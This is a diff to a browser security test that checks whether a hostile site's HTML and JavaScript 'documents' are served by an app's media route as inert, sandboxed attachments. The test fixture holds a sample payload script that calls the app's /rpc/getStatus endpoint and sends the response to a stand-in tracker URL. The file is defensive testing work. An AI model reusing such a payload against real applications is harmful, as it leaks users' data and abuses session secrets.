@@ -2,16 +2,15 @@ import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { webMediaUrl } from '../../electron/contract.ts';
 import { insertDocument } from '../../server/media/repo.ts';
 import { documentUrl } from '../../server/media/json.ts';
 import { capturingDemoWorkshop } from '../helpers/services.ts';
-import { openDemoApp, type startApp } from '../e2e/browser.ts';
+import { appMediaUrl, openDemoApp, type startApp } from '../e2e/browser.ts';
 
 // Issue 14, attack 1, in Chromium: a site lists a guide document `manual.html` (text/html) whose
 // `<script src>` is another of its "documents" (application/javascript), addressed through the web
 // shell's media route, so that it would load from the app's own origin, call /rpc/getStatus with the
-// launch cookie and send the technician's name away. Media are data: neither file may run, as a page
+// launch secret and send the technician's name away. Media are data: neither file may run, as a page
 // or as a script, and nothing may reach the attacker or the App API.
 const demo = capturingDemoWorkshop();
 let browser: Browser;
@@ -52,7 +51,9 @@ describe('a hostile site’s documents are data, never code', () => {
       `document.title = 'script ran';` +
       `fetch('/rpc/getStatus', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '[]' })` +
       `.then((r) => r.text()).then((t) => { location.href = '${trackerUrl}/leak?' + encodeURIComponent(t); });`;
-    const manual = `<!doctype html><title>Manual</title><p>Torque table</p><script src="${webMediaUrl(scriptUrl)}"></script>`;
+    // Worst case: the site knows the read key, so the media route itself would serve the script.
+    const scriptTag = `<script src="${appMediaUrl(app.shell, scriptUrl)}"></script>`;
+    const manual = `<!doctype html><title>Manual</title><p>Torque table</p>${scriptTag}`;
     const now = Math.floor(Date.now() / 1000);
     const ids = [
       insertDocument(site.db, { guid: 'b0b0b0b0-0000-4000-8000-000000000001', title: 'Manual', filename: 'manual.html', mime: 'text/html', bytes: Buffer.from(manual), created: now }),
@@ -72,7 +73,7 @@ describe('a hostile site’s documents are data, never code', () => {
 
   it('serves both as opaque attachments, sandboxed, nosniff and same-origin only', async () => {
     for (const url of [manualUrl, scriptUrl]) {
-      const response = await page.request.get(new URL(webMediaUrl(url), app.shell.url).toString());
+      const response = await page.request.get(appMediaUrl(app.shell, url));
       expect(response.status()).toBe(200);
       const headers = response.headers();
       expect(headers['content-type']).toBe('application/octet-stream');
@@ -111,7 +112,7 @@ describe('a hostile site’s documents are data, never code', () => {
       });
       document.head.append(tag);
       return [await settled, document.title] as const;
-    }, webMediaUrl(scriptUrl));
+    }, appMediaUrl(app.shell, scriptUrl));
     expect(ran[0]).toBe('refused');
     expect(ran[1]).not.toBe('script ran');
     await page.waitForTimeout(500);
